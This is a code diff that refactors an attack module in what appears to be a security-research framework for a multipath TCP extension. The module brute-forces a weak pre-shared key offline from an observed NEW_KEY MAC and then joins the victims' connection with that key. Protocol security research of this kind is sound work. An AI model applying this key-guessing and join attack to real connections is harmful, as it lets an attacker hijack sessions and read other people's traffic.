@@ -5,9 +5,7 @@
  * needs nobody's help. The guesses are decimal numbers, padded with zeroes to
  * the length that the attacker expects. With the key it joins as AT-05 does.
  */
-#include "atk_heard.h"
-#include "atk_inside.h"
-#include "atk_joining.h"
+#include "atk_join.h"
 #include "atk_opts.h"
 #include "atk_table.h"
 #include "mpx_tcp.h"
@@ -26,24 +24,23 @@ static const struct atk_param params[] = {
 };
 
 struct state {
-    struct atk_heards heard;
+    struct atk_handshakes handshakes;
     struct mpx_opt_new_key tag; /* the first NEW_KEY seen */
     enum mpx_role sender;
-    bool has_tag, inside;
+    bool has_tag;
     struct mpx_auth_key key; /* found; a secret of its victims */
-    struct atk_inside in;
-    uint32_t nonce;
+    struct atk_join join;
 };
 
-static enum atk_verdict see(struct atk *a, void *state,
-                            const struct atk_sight *s, uint64_t now)
+static enum atk_verdict on_segment(struct atk *a, void *state,
+                                   const struct atk_segment *s, uint64_t now)
 {
     struct state *st = state;
     struct mpx_opt o;
 
     (void)a;
     (void)now;
-    atk_heards_see(&st->heard, s);
+    atk_handshakes_note(&st->handshakes, s);
     if (!st->has_tag && atk_opts_find(s, MPX_SUB_NEW_KEY, &o)) {
         st->tag = o.u.new_key;
         st->sender = s->dir == 0 ? MPX_ROLE_I : MPX_ROLE_R;
@@ -52,7 +49,8 @@ static enum atk_verdict see(struct atk *a, void *state,
     return ATK_PASS;
 }
 
-static size_t guess_of(const struct atk *a, uint64_t n, uint8_t key[WIDTH_MAX])
+static size_t make_guess(const struct atk *a, uint64_t n,
+                         uint8_t key[WIDTH_MAX])
 {
     size_t width = (size_t)atk_param(a, WIDTH);
 
@@ -63,18 +61,19 @@ static size_t guess_of(const struct atk *a, uint64_t n, uint8_t key[WIDTH_MAX])
 
 /* Both ways of making MACs of an external key are public; the bits do not tell
  * which one the victims use. */
-static bool fits(struct state *st, const char *profile, const uint8_t *guess,
-                 size_t len)
+static bool test_guess(struct state *st, const char *profile,
+                       const uint8_t *guess, size_t len)
 {
     uint8_t want[MPX_MAC64_LEN];
 
-    if (!atk_heard_key(&st->heard.v[0], profile, guess, len, 0, &st->key))
+    if (!atk_handshake_key(&st->handshakes.v[0], profile, guess, len, 0,
+                           &st->key))
         return false;
     mpx_auth_new_key(&st->key, st->sender, st->tag.ack, want);
     return !memcmp(want, st->tag.mac, sizeof want);
 }
 
-static bool search(struct atk *a, struct state *st)
+static bool search_key(struct atk *a, struct state *st)
 {
     static const char *const ways[] = {"baerts", "hardened"};
     uint64_t space = 1;
@@ -83,61 +82,56 @@ static bool search(struct atk *a, struct state *st)
     for (uint64_t d = 0; d < atk_param(a, DIGITS); d++)
         space *= 10;
     for (uint64_t n = 0; n < space && n < atk_param(a, GUESSES); n++) {
-        size_t len = guess_of(a, n, guess);
+        size_t len = make_guess(a, n, guess);
 
         for (unsigned w = 0; w < 2; w++)
-            if (fits(st, ways[w], guess, len))
+            if (test_guess(st, ways[w], guess, len))
                 return true;
     }
     return false;
 }
 
-static void act(struct atk *a, void *state, uint64_t now)
+static void on_start(struct atk *a, void *state, uint64_t now)
 {
     struct state *st = state;
 
-    if (!st->heard.n || !st->has_tag || !search(a, st))
+    if (!st->handshakes.n || !st->has_tag || !search_key(a, st))
         return;
-    atk_tcp_open_to(&st->in.tcp, a, &st->heard.v[0].ends, FIRST_PORT);
-    atk_random(a, &st->nonce, sizeof st->nonce);
-    atk_inside_begin(&st->in, &st->heard.v[0], MPX_ROLE_R);
-    atk_joining_syn(a, &st->in.tcp, &st->heard.v[0], MPX_ROLE_R, false,
-                    st->nonce, now);
+    atk_join_open(a, &st->join, &st->handshakes.v[0], FIRST_PORT);
+    atk_join_request(a, &st->join, &st->handshakes.v[0], false, now);
 }
 
-static void host(struct atk *a, void *state, const struct atk_flow *f,
-                 const uint8_t *hdr, uint8_t hdr_len, const uint8_t *payload,
-                 size_t len, uint64_t now)
+static void on_host_segment(struct atk *a, void *state,
+                            const struct atk_flow *f, const uint8_t *hdr,
+                            uint8_t hdr_len, const uint8_t *payload, size_t len,
+                            uint64_t now)
 {
     struct state *st = state;
 
     (void)payload;
-    if (f->local_port != FIRST_PORT)
-        return;
-    if (mpx_seg_kind_of(hdr[MPX_TCP_OFF_FLAGS]) != MPX_SEG_SYNACK)
-        atk_inside_segment(a, &st->in, hdr, hdr_len, len, now);
-    else if (!st->inside)
-        st->inside = atk_joining_on_synack(a, &st->in.tcp, &st->key, MPX_ROLE_I,
-                                           st->nonce, hdr, hdr_len, now);
+    if (f->local_port == FIRST_PORT)
+        atk_join_take_segment(a, &st->join, &st->key, hdr, hdr_len, len, now);
 }
 
-static void end(void *state)
+static void free_state(void *state)
 {
     struct state *st = state;
 
-    atk_tcp_free(&st->in.tcp);
+    atk_tcp_free(&st->join.in.tcp);
     mpx_wipe(st, sizeof *st);
 }
 
 const struct atk_ops atk_psk_guess = {
     .name = "guess-psk",
     .id = "AT-26",
+    .does = "guesses a weak external key offline by the MAC of NEW_KEY, and "
+            "joins with it",
     .source = "draft-baerts-tcpm-mptcpext-00 section 4.2, D-21",
     .powers = ATK_READ | ATK_HOST,
     .params = params,
     .state_size = sizeof(struct state),
-    .see = see,
-    .act = act,
-    .host = host,
-    .end = end,
+    .on_segment = on_segment,
+    .on_start = on_start,
+    .on_host_segment = on_host_segment,
+    .free_state = free_state,
 };
